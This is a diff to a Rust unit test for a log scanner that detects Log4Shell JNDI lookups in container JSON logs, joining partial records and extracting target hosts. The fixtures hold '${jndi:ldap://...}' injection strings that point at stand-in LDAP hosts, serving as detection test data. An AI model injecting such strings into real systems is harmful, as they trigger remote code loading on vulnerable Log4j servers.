@@ -282,6 +282,9 @@ fn json_file_partial_records_are_joined_per_stream() {
         "stderr",
         "2026-11-27T14:00:01.123456789",
     ));
+    // A short record without newline (a process's last output) is complete, not a part.
+    log.push_str(&json_record("exit ${jndi:ldap://short.example/a}", "stdout", "2026-11-27T14:00:02Z"));
+    log.push_str(&json_record("next ${jndi:ldap://next.example/b}\n", "stdout", "2026-11-27T14:00:03Z"));
     let s = scan_stream(
         Cursor::new(log.into_bytes()),
         LogFormat::JsonFile,
@@ -291,7 +294,9 @@ fn json_file_partial_records_are_joined_per_stream() {
         0,
     );
     let jndi: Vec<_> = s.hits.iter().filter(|h| e.rules()[h.rule].id == "log4j.jndi-lookup").collect();
-    assert_eq!(jndi.len(), 1);
+    assert_eq!(jndi.len(), 3);
+    let hosts: Vec<_> = jndi.iter().map(|h| h.found.jndi.as_ref().unwrap().host.clone().unwrap()).collect();
+    assert_eq!(hosts, ["split.example", "short.example", "next.example"]);
     assert_eq!(jndi[0].locator.line, Some(1));
     assert_eq!(jndi[0].stream.as_deref(), Some("stdout"));
     assert_eq!(jndi[0].time.unwrap().to_iso(), "2026-11-27T14:00:00.100000000Z");
